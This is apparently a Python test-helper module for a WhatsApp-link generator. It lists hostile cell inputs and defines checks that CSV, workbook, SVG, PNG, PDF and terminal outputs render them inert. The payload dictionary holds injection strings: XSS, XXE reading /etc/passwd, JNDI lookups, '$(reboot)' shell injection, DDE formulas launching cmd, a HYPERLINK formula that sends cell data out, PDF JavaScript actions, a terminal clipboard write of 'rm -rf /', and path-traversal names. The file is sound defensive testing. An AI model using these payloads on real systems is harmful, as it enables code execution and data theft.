"""Attacks that strangers may write into a cell, and the checks of each place; see test_attacks."""

from __future__ import annotations

import io
import json
import ntpath
import re
import subprocess
import sys
import unicodedata
from pathlib import PureWindowsPath
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import parse_qsl, urlsplit
from xml.etree import ElementTree as ET

import pikepdf
import pyte

from tests.conftest import program
from wa_link.links.template import is_blank

if TYPE_CHECKING:
    from pathlib import Path

KINDS: dict[str, dict[str, str]] = {
    "terminal": {
        "colour": "\x1b[31mred\x1b[0m",
        "conceal": "\x1b[8mhidden\x1b[28m",
        "clear": "\x1b[2J\x1b[H",
        "line above erased": "\x1b[1A\x1b[2Kaccepted",
        "alternate screen": "\x1b[?1049h",
        "reset": "\x1bc",
        "cursor asked": "\x1b[6n",
        "terminal asked": "\x1b[c\x05",
        "title": "\x1b]0;stolen\x07",
        "title, ST": "\x1b]2;stolen\x1b\\",
        "title, unended": "\x1b]0;",
        "OSC 52": "\x1b]52;c;cm0gLXJmIC8=\x07",
        "OSC 8": "\x1b]8;;https://example.org\x1b\\wa.me\x1b]8;;\x1b\\",
        "OSC 1337": "\x1b]1337;File=inline=1:AAAA\x07",
        "DCS": "\x1bP+q544e\x1b\\",
        "APC": "\x1b_Gf=100;AAAA\x1b\\",
        "C1 CSI": "\x9b31mred",
        "C1 OSC": "\x9d0;stolen\x9c",
        "C1 DCS": "\x90q\x9c",
        "C1 NEL": "one\x85two",
        "BEL": "\x07ring",
        "BS": "paid\b\b\b\bowed",
        "CR": "https://example.org\rhttps://wa.me/44   ",
        "DEL": "12\x7f3",
        "charset": "\x0eqqq\x0f",
        "VT, FF": "a\vb\fc",
        "separators": "a\x1cb\x1dc\x1ed\x1fe",
        "NUL": "a\0b",
        "all": "".join(map(chr, [*range(32), *range(127, 160)])),
    },
    "direction": {
        "RLO": "\u202egnp.exe",
        "LRO": "\u202d123",
        "RLE": "\u202babc",
        "LRE, unended": "\u202aabc",
        "PDF alone": "abc\u202c\u202c",
        "RLI": "admin\u2067 // \u2066if\u2069",
        "FSI, unended": "\u2068abc",
        "marks": "a\u200eb\u200fc\u061cd",
        "zero width": "wa\u200b.\u2060me\ufeff",
        "joiners": "a\u200cb\u200dc",
        "soft hyphen": "pass\u00adword",
        "tags": "flag\U000e0067\U000e0062\U000e007f",
        "variation selectors": "a\ufe0fb\U000e0100",
        "fillers": "\u115f\u1160\u3164\uffa0",
        "annotation": "\ufff9base\ufffareading\ufffb",
        "separators": "one\u2028two\u2029three",
        "spaces alone": "\u2003\u3000\u00a0",
        "marks alone": "\u0301\u0302\u0489",
        "many marks": "a" + "\u0336\u0301" * 60,
        "noncharacters": "\ufffe\uffff\U0010ffff",
        "private": "\ue000\uf8ff",
        "byte-order mark": "\ufeffname",
        "Arabic": "طاولة (خشب) 120",
    },
    "template": {
        "column": "{name} {phone}",
        "attribute": "{wa_digits.__class__}",
        "index": "{name[0]}",
        "default": "{name|x}",
        "number": "{0} {1}",
        "empty": "{}",
        "open": "{{",
        "closed": "}}",
        "half": "{wa_row",
        "conversion": "{name!r:>99999}",
        "percent": "%s %d %n",
        "percent, named": "%(name)s",
        "percent alone": "100%",
        "dollar": "$name ${name}",
        "JNDI": "${jndi:ldap://example.org/x}",
        "expression": "{{7*7}} <%= 7*7 %> #{7*7}",
        "shell": "$(reboot) `reboot` | reboot; reboot",
        "backslashes": r"\n \\ \x1b[31m \u202e \1 \g<0>",
    },
    "mark-up": {
        "script": "<script>alert(1)</script>",
        "end of CDATA": "]]><script/>",
        "CDATA": "<![CDATA[<a>]]>",
        "entity": "&lt;b&gt; &#27; &x; &amp",
        "doctype": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
        "attribute": '"/><image href="https://example.org/x.png"/>',
        "event": "' onload='alert(1)",
        "end of metadata": "</metadata><script>alert(1)</script>",
        "end of svg": "</g></svg><svg onload=alert(1)>",
        "instruction": '<?xml-stylesheet href="x"?>',
        "comment": "--><!--",
        "CSS": "</style>@import url(https://example.org)",
    },
    "PDF": {
        "end of text": ") Tj ET",
        "action": "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "end of object": ">> endobj 99 0 obj << /S /URI /URI (https://example.org) >>",
        "end of stream": "\nendstream\nendobj\n",
        "hex": "<41> Tj <",
        "backslash": "\\) \\",
        "comment": "%%EOF %",
        "parentheses": "((((",
        "name": "/Launch#20x",
        "trailer": "trailer << /Root 1 0 R >> startxref 0",
    },
    "Typst": {
        "file": '#read("/etc/passwd")',
        "include": '#include "/etc/passwd"',
        "picture": '#image("/etc/passwd")',
        "package": '#import "@preview/cetz:0.3.4": *',
        "package, name alone": "@preview/cetz:0.3.4",
        "code": "#let card = none",
        "code, open": "#{",
        "code, eval": '#eval("1 + 1", mode: "code")',
        "failure": '#panic("stop")',
        "end of content": '])}\n#panic("stop")',
        "end of text": '"); panic("stop"); ("',
        "inputs": "#sys.inputs",
        "show": "#show: it => none",
        "mathematics": "$x^2 + sqrt(y)$",
        "reference": "@card @Knuth84",
        "label": "<wa-link> <a>",
        "metadata": '#metadata((what: "texts", choice: none))<wa-link>',
        "emphasis": "*bold* _slanted_",
        "raw": "`raw` ```typ #panic()```",
        "comment": "//comment",
        "comment, block": "a /* b */ c",
        "heading": "= heading",
        "heading on a line": "a\n== heading\nb",
        "list": "- item\n- item",
        "numbered": "+ item\n1. item",
        "term": "/ term: text",
        "escapes": r"a \\ b \u{41} \# \$ c\\",
        "space that does not break": "a~b",
        "dashes": "a -- b --- c -? d",
        "dots": "a...b",
        "fractions, arrows": "1/2 <= 3/4 -> => != (c)",
        "double quotes": '"a" "b',
        "single quotes": "it's 'a' 'b",
        "address": "https://example.org/a_b_c",
        "ligatures": "fi fl ffi www",
        "braces": "{{}} [[]] (()) {#panic()}",
        "hyphens": "re-entry co\u00adop",
    },
    "CSV": {
        "equals": "=1+1",
        "plus": "+1+1",
        "minus": "-2+3",
        "at": "@SUM(1)",
        "tab": "\t=1+1",
        "carriage return": "\r=1+1",
        "line feed": "\n=1+1",
        "NUL": "\0=1+1",
        "full-width": "＝1+1",
        "full-width plus": "＋1+1",
        "full-width minus": "－2+3",
        "full-width at": "＠SUM(1)",
        "DDE": "=cmd|'/C calc'!A0",
        "HYPERLINK": '=HYPERLINK("https://example.org?"&A1,"Error")',
        "phone and more": "+447911123456+cmd|'/C calc'!A0",
        "phone and a line": "+447911123456\n=1+1",
        "web": '@IMPORTXML(CONCAT("https://example.org?",A1),"//a")',
        "apostrophe": "'=1+1",
        "delimiters": 'a,b;c\td|e"f',
        "end of a cell": '","=1+1","',
        "end of a row": '"\r\n=1+1,"',
        "quote": '"',
        "quotes": '""""',
        "CRLF": "one\r\ntwo",
        "LF at the end": "one\n",
        "CR at the end": "one\r",
        "sep=": "sep=;",
        "dangling": 'x",+447911999999,"y',
    },
    "workbook": {
        "formula": "=SUM(A1:A9)",
        "array formula": "{=SUM(A1)}",
        "runs": "<r>x</r>",
        "runs, marked up": "<r><t>x</t></r>",
        "runs, escaped": "<r>_x0041_\x1b[0m</r>",
        "ST_Xstring": "_x0041_ _x000D_",
        "ST_Xstring, escaped": "_x005F_x0041_",
        "ST_Xstring, overlapping": "_x0041_x003D_x0042_",
        "ST_Xstring, half": "_x00 _xZZZZ_ _x0041",
        "script link": "javascript:alert(1)",
        "file link": "file:///etc/passwd",
        "inner link": "internal:Sheet1!A1",
        "outer link": "external:x.xlsx#A1",
        "share": "\\\\server\\share\\x.xlsx",
        "web link": "https://example.org/",
        "chat link": "https://wa.me/447911999999",
        "mail": "mailto:x@example.org?cc=y",
        "number": "1E+11",
        "date": "3/4",
        "truth": "TRUE",
        "error": "#REF!",
        "spaces around": "  x  ",
        "longest": "a" * 32_767,
        "longest, astral": "😀" * 16_383,
    },
    "file name": {
        "parent": "../../x",
        "parent, Windows": "..\\..\\x",
        "parent alone": "..",
        "dot": ".",
        "absolute": "/etc/passwd",
        "drive": "C:\\x",
        "drive, relative": "C:x",
        "share": "//server/share",
        "stream": "x:hidden",
        "CON": "CON",
        "nul": "nul.tar.gz",
        "NUL, space": "NUL .txt",
        "COM¹": "COM¹",
        "LPT9": "lpt9.",
        "CONIN$": "CONIN$",
        "CON, full-width": "ＣＯＮ",
        "CON, mathematical": "𝐂𝐎𝐍",
        "CON, hidden": "C\u200bON",
        "CON, spaced": "\u3000CON",
        "AUX, half": "A\u00adUX.png",
        "parent, full-width": "．．／x",
        "slash, look-alike": "..∕..⁄x",
        "one dot leader": "․․/x",
        "trailing": "x. . .",
        "hidden": ".bashrc",
        "hidden, spaced": " .ssh",
        "option": "-rf",
        "option, dash": "--force",
        "home": "~root",
        "globs": "*?[a-z]",
        "line break": "a\nb",
        "extension": "x.png",
        "exe": "x.png\u202egnp.exe",
        "200 letters": "n" * 200,
        "long, then dots": "n" * 95 + "." * 20 + "x",
        "long, cut in a letter": "n" * 94 + "é" * 20,
        "long, marks": "e" + "\u0301" * 300,
        "NFD": "Cafe\u0301",
        "NFC": "Café",
        "capitals": "CAFÉ",
        "Hangul": "\u1112\u1161\u11ab",
        "grows": "\ufb2c" * 40,
        "Thai": "โต๊ะไม้",
        "part": ".a.wa-link-0123456789abcdef.part",
    },
    "JSON": {
        "end of string": '"}',
        "another key": '", "wa_link": "https://example.org", "x": "',
        "NaN": "NaN",
        "prototype": "__proto__",
        "array": "[1, {",
        "escape": "\\u0022}",
        "backslash at the end": "x\\",
        "U+2028": "a\u2028b",
        "NEL": "a\x85b",
        "another line": '"}\n{"wa_link": "x"}',
    },
    "link": {
        "parameter": "Hi&text=Pay+now",
        "phone": "Hi&phone=447911999999",
        "query": "?phone=447911999999",
        "fragment": "Hi#x",
        "path": "/../447911999999",
        "user": "@example.org/",
        "escaped line break": "%0d%0aLocation: https://example.org",
        "double": "%2526text%253Dx",
        "plus": "1+1 = 2",
        "semicolon": "a;text=b",
        "script": "javascript:alert(1)//",
        "brackets": "text[]=x",
        "end": "Hi...",
    },
    "own": {
        "link": "wa_link",
        "status": "accepted",
        "row": "wa_row wa_digits",
        "marker": "<metadata>wa-link</metadata>",
        "columns": "wa_link,wa_phone,wa_status,wa_reason,wa_note",
    },
}
ATTACKS = {f"{kind}: {name}": cell for kind, cells in KINDS.items() for name, cell in cells.items()}

# Each check raises AssertionError.

N = "447911123456"
COLUMNS = ["name", "phone", "content"]
OWN = ["wa_link", "wa_phone", "wa_status", "wa_reason", "wa_note"]
TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def check_said(text: str) -> None:
    """Check that text has only printable characters and line breaks."""
    for char in set(text) - {"\n"}:
        assert unicodedata.category(char) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}, ascii(text)


def check_message(message: str, cell: str) -> None:
    """Check that a message is one line, and quotes at most 60 characters of the cell, once."""
    check_said(message)
    assert "\n" not in message
    assert all(cell[at : at + 61] not in message for at in range(len(cell) - 60))
    if len(cell) > 1:  # a message may name the one wrong character
        assert message.count(f'"{cell[:60]}') <= 1
    assert len(message) < 1_000


def check_refusal(row: dict[str, str], cell: str, *reasons: str) -> bool:
    """Return whether a row was rejected; if so, check that it has a reason, and no link."""
    if row["wa_status"] != "rejected":
        return False
    assert row["wa_reason"] in ({"missing_field"} if is_blank(cell) else reasons)
    check_message(row["wa_note"], cell)
    assert row["wa_note"]
    assert (row["wa_link"], row.get("wa_qr", "")) == ("", "")
    return True


def check_terminal(shown: str) -> None:
    """Check that a terminal only writes lines: no control characters, no change of direction."""
    for char in set(shown) - {"\n", "\t"}:
        assert unicodedata.category(char) != "Cc", ascii(char)
        assert unicodedata.bidirectional(char) not in TURNING, ascii(char)
    events = io.StringIO()
    pyte.Stream(pyte.DebugScreen(to=events)).feed(shown)  # type: ignore[arg-type]  # it takes the same calls
    done = {json.loads(event)[0] for event in events.getvalue().splitlines()}
    assert done <= {"draw", "linefeed", "tab"}, done


def check_visible(shown: str, cell: str) -> None:
    """Check that all visible characters of the cell are shown, in order."""
    rest = iter(shown)
    assert all(char in rest for char in cell if char.isprintable())


class Address(NamedTuple):
    """The parts of a link."""

    place: list[str]
    parameters: list[list[str]]
    rest: str


def by_urllib(urls: list[str]) -> list[Address]:
    return [
        Address(
            [f"{url.scheme}:", url.netloc, url.path],
            [[*pair] for pair in parse_qsl(url.query, keep_blank_values=True)],
            url.fragment,
        )
        for url in map(urlsplit, urls)
    ]


BROWSER = """
for (const url of JSON.parse(require("fs").readFileSync(0))) {
  const { protocol, host, pathname, searchParams, hash, username } = new URL(url);
  console.log(JSON.stringify([[protocol, host, pathname], [...searchParams], hash + username]));
}
"""


def by_a_browser(urls: list[str]) -> list[Address]:
    output = subprocess.run(
        [program("node", "nodejs"), "-e", BROWSER],
        input=json.dumps(urls).encode(),
        capture_output=True,
        check=True,
        timeout=60,
    ).stdout
    return [Address(*json.loads(line)) for line in output.splitlines()]


PLACES: dict[str, tuple[list[str], list[list[str]]]] = {
    "wa.me": (["https:", "wa.me", f"/{N}"], []),
    "api": (["https:", "api.whatsapp.com", "/send"], [["phone", N]]),
    "web": (["https:", "web.whatsapp.com", "/send"], [["phone", N]]),
    "app": (["whatsapp:", "send", ""], [["phone", N]]),
}


def check_address(found: Address, cell: str, via: str = "wa.me") -> None:
    """Check that a link opens the chat with the number, and that its text is the cell."""
    place, before = PLACES[via]
    text = cell.replace("\r\n", "\n").replace("\r", "\n")
    assert found == Address(place, [*before, ["text", text]], "")


# OWASP, "CSV Injection"; and ASVS 1.2.10 for NUL.
FORMULA = re.compile(r"[=+\-@\t\r\n\0＝＋－＠]")
NUMBER = re.compile(r"\+[0-9][0-9 ()/-]*")


def check_row(row: dict[str, str], cell: str) -> None:
    """Check that a row has a cell for each column, and contains the attack as it is."""
    assert list(row) == [*COLUMNS, *OWN]
    assert set(map(type, row.values())) == {str}
    assert row["content"] == cell
    assert (row["phone"], row["wa_link"]) == (f"+{N}", f"https://wa.me/{N}")
    assert row["wa_status"] == "accepted"


def check_inert(cell: str) -> None:
    """Check that a spreadsheet does not calculate a cell."""
    assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), ascii(cell)


def check_safe(shown: str, cell: str) -> None:
    """Check that a cell is unchanged but for an apostrophe, and is not calculated.

    This also holds for a spreadsheet that splits the cell at another delimiter.
    """
    for part in re.split(r"[,;|\t]", shown):
        check_inert(part)
    assert shown.replace("'", "") == cell.replace("'", "")


def check_safe_row(row: dict[str, str], cell: str) -> None:
    """Check each cell of a row with `check_safe`."""
    for each in row.values():
        check_inert(each)
    check_safe(row["content"], cell)
    check_row({**row, "content": cell}, cell)


def check_json_line(line: str, cell: str) -> None:
    """Check that an object of strings is one line for every program."""
    assert line.splitlines() == [line]
    check_row(json.loads(line), cell)


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SPACE = "{http://www.w3.org/XML/1998/namespace}space"


def worksheet_rows(xml: bytes) -> list[dict[str, str]]:
    """Return the text of each column for each row, by ECMA-376 (18.4.12; 22.9.2.19, ST_Xstring)."""
    return [
        {cell.get("r", "").rstrip("0123456789"): text_of(cell) for cell in row}
        for row in ET.fromstring(xml).iter(f"{MAIN}row")  # noqa: S314  (our own)
    ]


def text_of(cell: ET.Element) -> str:
    assert cell.get("t") == "inlineStr"
    assert [child.tag for child in cell] == [f"{MAIN}is"]
    text = ""
    for part in cell.iter(f"{MAIN}t"):
        escaped = part.text or ""
        assert escaped == escaped.strip(" \t\n") or part.get(SPACE) == "preserve"
        text += re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), escaped)
    return text


def check_workbook_row(row: tuple[Any, ...]) -> None:
    """Check that the cells of a workbook are text, with one link, which is ours."""
    assert {cell.data_type for cell in row if cell.value is not None} == {"s"}
    links = {cell.column: cell.hyperlink.target for cell in row if cell.hyperlink}
    assert links == {4: f"https://wa.me/{N}"}


def check_name(name: str) -> None:
    """Check that the name of a file works on every system."""
    stem, dot, extension = name.rpartition(".")
    assert (dot, extension) == (".", "png")
    assert stem == stem.strip(" ").rstrip(".")
    assert stem[:1] not in {"", ".", "-"}
    assert len(name.encode()) <= 100
    assert unicodedata.is_normalized("NFC", name)
    for char in set(name) - {*"-_. "}:
        category = unicodedata.category(char)
        assert category[0] in "LM" or category == "Nd", ascii(char)
    for form in (name, unicodedata.normalize("NFKC", name)):
        assert not reserved_on_windows(form)


def reserved_on_windows(name: str) -> bool:
    if sys.version_info >= (3, 13):
        return ntpath.isreserved(name)
    return PureWindowsPath(name).is_reserved()


def check_files(folder: Path, names: set[str]) -> None:
    """Check that a folder has these files only, with names that differ on every system."""
    found = {str(path.relative_to(folder)) for path in folder.rglob("*") if not path.is_dir()}
    assert found == names
    assert len({unicodedata.normalize("NFC", name).casefold() for name in names}) == len(names)


SVG, XLINK = "{http://www.w3.org/2000/svg}", "{http://www.w3.org/1999/xlink}"
NUMBERS, _OWN = r"-?[\d.]+(e-\d+)?(mm)?", r"url\(#\w+\)"
COLOUR = f"#[0-9a-f]{{3,8}}|none|{_OWN}"
BITMAP = "data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+"
TAGS = {"svg", "metadata", "title", "rect", "path", "g", "defs", "clipPath", "image"}
ATTRIBUTES = {
    **dict.fromkeys(("width", "height", "x", "y", "stroke-width", "fill-opacity"), NUMBERS),
    "fill": COLOUR, "stroke": COLOUR, "viewBox": r"[\d. ]+",
    "shape-rendering": "crispEdges|auto", "fill-rule": "evenodd|nonzero",
    "d": r"[AaMmLlHhVvCcQqSsTtZz\d., e-]*", "href": BITMAP, f"{XLINK}href": BITMAP,
    "transform": r"((translate|scale|matrix|rotate)\([-\d.e, ]*\) ?)+",
    "clip-path": r"url\(#\w+\)", "id": r"\w+",
    "stroke-linecap": "butt|round", "stroke-linejoin": "miter|round",
    "stroke-miterlimit": NUMBERS, "preserveAspectRatio": "none",
}  # fmt: skip


def check_svg(drawing: bytes) -> None:
    """Check that an SVG has shapes, the marker and a title: no script, no other files."""
    assert not re.search(rb"<[!?]", drawing)
    for element in ET.fromstring(drawing).iter():  # noqa: S314  (without <!, nothing expands)
        tag = element.tag.removeprefix(SVG)
        assert tag in TAGS, tag
        text = f"{element.text or ''}{element.tail or ''}".strip()
        if tag == "title":
            check_said(text)
            assert text.startswith("QR code")
        else:
            mark = "wa-link" if tag == "metadata" else ""
            assert re.fullmatch(mark, text), text
        for name, value in element.attrib.items():
            assert re.fullmatch(ATTRIBUTES.get(name, "(?!)"), value), (name, value[:100])


def check_png(drawing: bytes) -> None:
    """Check that the marker is the only text of a PNG, and that its end is the last chunk."""
    assert drawing.startswith(b"\x89PNG\r\n\x1a\n")
    kinds, at = [], 8
    while at < len(drawing):
        end = at + 8 + int.from_bytes(drawing[at : at + 4], "big")
        kind, data = drawing[at + 4 : at + 8], drawing[at + 8 : end]
        assert kind in {b"IHDR", b"PLTE", b"tRNS", b"pHYs", b"tEXt", b"IDAT", b"IEND"}
        assert kind != b"tEXt" or data == b"Software\0wa-link"
        kinds.append(kind)
        at = end + 4  # after its checksum
    assert kinds.count(b"tEXt") == kinds.count(b"IEND") == 1
    assert kinds[-1] == b"IEND"


# Actions, programs and references to other files (ISO 32000-2, 7.11, 12.6, 13).
ACTING = {
    "/" + name
    for name in (
        *["AA", "JS", "JavaScript", "Launch", "GoTo", "GoToR", "GoToE", "SubmitForm", "ImportData"],
        *["Named", "OpenAction", "EmbeddedFile", "EmbeddedFiles", "Filespec", "AF", "AcroForm"],
        *["XFA", "RichMedia", "Screen", "Sound", "Movie", "3D", "FileAttachment", "Rendition"],
        *["ResetForm", "Hide", "Thread", "Trans", "GoTo3DView", "FFilter", "FDecodeParms"],
        *["Collection", "PS", "Ref", "OPI", "URL"],
    )
}
DRAWS = (
    "q Q cm re f f* m l c v y h n W W* g rg k cs scn CS SCN w J j M d S s B B* gs Do BDC BMC EMC"
)
OPERATORS = {*f"{DRAWS} BT ET Tf Td Tm Tj TJ Tr Ts Tc Tw Tz".split()}


def check_pdf(pdf: bytes, link: str = f"https://wa.me/{N}") -> None:
    """Check that a PDF has glyphs, shapes and chat links: no other action, no other file."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        for holder in (document.trailer, *document.objects):
            check_object(holder, link)
        for page in document.pages:
            check_drawn(page)
        assert set(document.docinfo.keys()) <= {
            "/Title", "/Creator", "/Producer", "/Keywords", "/CreationDate", "/ModDate"
        }  # fmt: skip
        metadata = document.Root.get("/Metadata")
        if metadata is not None:
            data = metadata.read_bytes()
            assert not re.search(b"<!", data)
            ET.fromstring(data)  # noqa: S314  (as above)


def check_object(found: Any, link: str) -> None:  # noqa: ANN401  (any object of a PDF)
    """Check an object and all that it contains; references lead to other objects."""
    inside: list[Any] = []
    if isinstance(found, pikepdf.Dictionary | pikepdf.Stream):
        for key, value in found.items():
            check_entry(key, value, link)
            inside.append(value)
    elif isinstance(found, pikepdf.Array):
        inside = [*found]
    elif isinstance(found, pikepdf.Name):
        assert str(found) not in ACTING, found
    for value in inside:
        if not getattr(value, "is_indirect", False):
            check_object(value, link)


def check_entry(key: str, value: Any, link: str) -> None:  # noqa: ANN401  (as above)
    """Check an entry of a dictionary: its action, or its target."""
    assert key not in ACTING, key
    if key == "/URI":
        assert str(value) == link
    if key == "/F":  # flags of an annotation, or a file
        assert isinstance(value, int)
    if key == "/Annots":
        assert {str(each.Subtype) for each in value} <= {"/Link"}


def check_drawn(page: Any) -> None:  # noqa: ANN401  (a page, or a form of one)
    """Check the operators of a page, and of the forms that it uses."""
    for drawn in pikepdf.parse_content_stream(page):
        operands, operator = drawn.operands, drawn.operator
        assert str(operator) in OPERATORS, operator
        if str(operator) in ("Tj", "TJ"):  # glyphs of two bytes, never letters
            parts = operands[0] if str(operator) == "TJ" else operands
            texts = [bytes(part) for part in parts if isinstance(part, pikepdf.String)]
            assert all(len(text) % 2 == 0 for text in texts)
    resources = page.resources if isinstance(page, pikepdf.Page) else page.get("/Resources", {})
    for form in resources.get("/XObject", {}).values():
        assert form.Subtype in ("/Form", "/Image")
        if form.Subtype == "/Form":
            check_drawn(form)
